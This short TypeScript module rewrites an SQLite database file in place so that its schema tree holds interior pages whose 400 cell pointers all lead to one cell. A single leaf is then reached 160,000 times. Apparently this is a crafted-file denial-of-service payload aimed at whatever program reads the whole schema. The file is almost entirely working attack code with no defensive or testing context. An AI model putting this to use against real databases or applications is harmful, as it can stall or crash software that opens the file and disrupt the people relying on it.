/** Databases whose schema has no end, for whoever reads all of it. */
import { readFileSync, writeFileSync } from "node:fs";

const HEADER_SIZE = 100;
const CELLS = 400;
/** The only cell of an interior page, to which all its pointers lead. */
const CELL_OFFSET = 4000;

/**
 * Rewrites a database that nobody has open, with pages of 4096 bytes and a small schema: the same leaf is
 * there 160,000 times.
 */
export function inflateSchema(path: string): void {
  const file = readFileSync(path);
  const pageCount = file.length / 4096;
  const leaf = Buffer.from(file.subarray(0, 4096));
  leaf.copyWithin(0, HEADER_SIZE, HEADER_SIZE + 1000);
  const middle = Buffer.alloc(4096);
  writeInterior(middle, 0, pageCount + 1);
  const first = Buffer.alloc(4096);
  file.copy(first, 0, 0, HEADER_SIZE);
  first.writeUInt32BE(pageCount + 2, 28);
  writeInterior(first, HEADER_SIZE, pageCount + 2);
  writeFileSync(path, Buffer.concat([first, file.subarray(4096), leaf, middle]));
}

function writeInterior(page: Buffer, begin: number, child: number): void {
  page.writeUInt8(5, begin);
  page.writeUInt16BE(CELLS, begin + 3);
  page.writeUInt16BE(CELL_OFFSET, begin + 5);
  page.writeUInt32BE(child, begin + 8);
  for (let cell = 0; cell < CELLS; cell++) page.writeUInt16BE(CELL_OFFSET, begin + 12 + cell * 2);
  page.writeUInt32BE(child, CELL_OFFSET);
  page.writeUInt8(1, CELL_OFFSET + 4);
}
